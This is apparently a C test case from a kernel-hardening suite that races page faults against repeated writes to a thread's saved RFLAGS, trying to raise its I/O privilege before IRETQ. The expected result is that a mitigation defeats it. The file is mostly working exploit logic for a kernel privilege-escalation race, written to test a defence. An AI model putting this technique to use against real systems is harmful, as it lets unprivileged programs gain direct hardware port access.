// SPDX-License-Identifier: GPL-2.0-only
#include "registers.h"
#include "thread.h"

ATTACK("shadow_stack", "leave_race", "LOST",
       "While a thread takes one page fault after the other, another one of the same program on "
       "another processor writes flags with a privilege level over its registers, again and "
       "again, to hit the moment between the kernel's correction and IRETQ.",
       "A program whose page tables are shared goes back by words in sealed memory: what IRETQ "
       "reads has been corrected, and stands where nobody can write.",
       "The program may use the ports of all devices.");

#define PAGES 256
#define POKES 2000000
#define FAULTS_SEEN 300000 /* in which the attacker has poked, too */

static volatile uint32_t reader_id;
static volatile unsigned long seen; /* of the flags that the reader came back with */
static volatile uint32_t faults;

static bool control(void)
{
	return is_ordinary();
}

static bool has_ports(void)
{
	return (seen & PORTS) == PORTS;
}

/*
 * Comes back from each fault with the flags that IRETQ has read. It decides nothing by them: those
 * of a comparison are the attacker's, too, when an interrupt comes between that and its jump.
 */
static void fault_and_see(void)
{
	const long area = call6(__NR_mmap, 0, PAGES << 12, PROT_READ | PROT_WRITE,
				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	(void)own_cpu(1);
	reader_id = (uint32_t)call0(__NR_gettid);
	for (unsigned long page = 0;; page = (page + 1) % PAGES) {
		if (page == 0)
			call3(__NR_madvise, area, PAGES << 12, MADV_DONTNEED);
		*(volatile char *)(area + (long)(page << 12)) = 1;
		seen |= flags_now();
		faults++;
	}
}

static bool fire(void)
{
	const uint64_t task = own_task();
	uint64_t flags, value;

	(void)own_cpu(0);
	start_thread(fault_and_see);
	await(reader_id != 0);
	flags = own_registers(thread_task(task, reader_id)) + member("arch_frame.rflags");
	value = peek(flags) | FLAG_INTERRUPT | PORTS;
	for (unsigned int i = 0; (i < POKES || faults < FAULTS_SEEN) && !has_ports(); i++)
		poke(flags, value);
	return has_ports();
}

static void victim(void)
{
	victim_waits();
}
